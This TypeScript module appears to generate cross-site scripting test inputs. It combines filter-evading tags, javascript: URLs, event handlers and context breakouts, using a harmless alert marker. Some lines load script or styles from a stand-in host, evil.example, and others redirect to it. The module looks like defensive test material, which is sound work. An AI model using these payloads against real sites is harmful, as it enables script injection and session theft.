import { each, entities } from './compose.ts'

/** Runs if a page ever takes it for markup; the word is one that no page of ours has. */
export const deed = 'alert(/xyzzy/)'

/** Elements that run something by themselves (PortSwigger's and OWASP's lists for evading XSS filters). */
const elements = [
  `<script>${deed}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${deed}>`,
  `<svg onload=${deed}>`,
  `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
  `<svg><script>${deed}</script></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${deed}></style>`,
  `<body onload=${deed}>`,
  `<details open ontoggle=${deed}>`,
  `<input autofocus onfocus=${deed}>`,
  `<video><source onerror=${deed}></video>`,
  `<audio src=x onerror=${deed}>`,
  `<marquee onstart=${deed}>`,
  `<iframe srcdoc="<script>${deed}</script>">`,
  `<iframe src="javascript:${deed}">`,
  `<object data="javascript:${deed}">`,
  `<embed src="javascript:${deed}">`,
  `<form action="javascript:${deed}"><button>go</button></form>`,
  `<a href="javascript:${deed}">go</a>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css'</style>`,
  `<template shadowrootmode=open><script>${deed}</script></template>`,
  `<dialog open onclose=${deed}><form method=dialog></dialog>`,
  `<noscript><p title="</noscript><img src=x onerror=${deed}>">`,
  `<x onclick=${deed} style="position:fixed;inset:0">`,
  `<button popovertarget=x>go</button><div popover id=x onbeforetoggle=${deed}>`,
]
/** What a text may stand in, and has to break out of: attributes, comments, raw text, script, JSON in a page. */
const waysOut = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '-->',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '`}',
  ']]>',
  '\\"}',
]

export const markup = each(waysOut, elements)

/** Separators that old filters read differently (RSnake's cheat sheet). */
export const splitTags = each(
  ['<img', '<svg', '<body'],
  ['/', '\t', '\n', '\f', '\u00a0', '/x/'],
  [`src=x onerror=${deed}>`, `onload=${deed}>`],
)

/** Out of an attribute, without a tag. */
export const handlers = each(
  ['"', "'", '` ', ' '],
  [' onmouseover=', ' autofocus onfocus=', ' style=x:expression('],
  [deed, entities(deed)],
)

/** In a place where a script builds a string, or a page keeps its data as JSON (React Router's own payload). */
export const scripts = each(
  ["';", '";', '`;', "\\';", '</script><script>', '\u2028', '*/', '${', '{{', '<%=', '#{'],
  [deed, 'constructor.constructor("alert(/xyzzy/)")()', '7*7'],
  ['//', '}', '}}', '%>'],
)
